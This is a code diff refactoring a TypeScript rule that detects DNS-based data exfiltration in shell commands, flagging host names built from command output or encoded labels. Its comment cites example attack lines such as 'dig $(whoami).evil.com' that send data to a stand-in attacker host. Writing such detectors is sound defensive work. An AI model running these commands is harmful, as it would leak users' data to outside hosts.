@@ -1,6 +1,7 @@
 import { Severity } from "../../../gen/guard/v1/types_pb.js";
-import { type Hit, hitOn, operands } from "../commands/rules/types.js";
-import type { Analysis, Invocation } from "../commands/shell/analyze.js";
+import { ruleModule } from "../commands/rules/dispatch.js";
+import { type Hit, hitOn, operands, pushHit } from "../commands/rules/types.js";
+import type { Invocation } from "../commands/shell/analyze.js";
 
 /**
  * Data smuggled out in names to resolve: `dig $(whoami).evil.com`, `nslookup <base32>.x.com`,
@@ -55,22 +56,19 @@ function namesOf(inv: Invocation): { text: string; dynamic: boolean }[] {
   return [];
 }
 
-export function dnsExfiltration(analysis: Analysis): Hit[] {
-  const hits: Hit[] = [];
-  for (const inv of analysis.invocations) {
-    if (inv.name === "getent" && operands(inv.args)[0] !== "hosts") continue;
-    for (const name of namesOf(inv)) {
-      if (name.dynamic && name.text.includes(".")) {
-        hits.push(
-          hitOn(inv, "dns-substitution", Severity.HIGH, 0.85, "command output placed in a host name"),
-        );
-        break;
-      }
-      if (name.text.split(".").some(encodedLabel)) {
-        hits.push(hitOn(inv, "dns-encoded-label", Severity.MEDIUM, 0.6, "encoded data in a host name"));
-        break;
-      }
-    }
+/** The verdict on one command: the first host name it resolves that carries data. */
+function dnsSend(inv: Invocation): Hit | undefined {
+  if (inv.name === "getent" && operands(inv.args)[0] !== "hosts") return undefined;
+  for (const name of namesOf(inv)) {
+    if (name.dynamic && name.text.includes("."))
+      return hitOn(inv, "dns-substitution", Severity.HIGH, 0.85, "command output placed in a host name");
+    if (name.text.split(".").some(encodedLabel))
+      return hitOn(inv, "dns-encoded-label", Severity.MEDIUM, 0.6, "encoded data in a host name");
   }
-  return hits;
+  return undefined;
 }
+
+export const dnsExfiltration = ruleModule({
+  name: "dns",
+  commands: [{ programs: [...RESOLVERS, "curl", "wget"], check: (inv, hits) => pushHit(hits, dnsSend(inv)) }],
+});
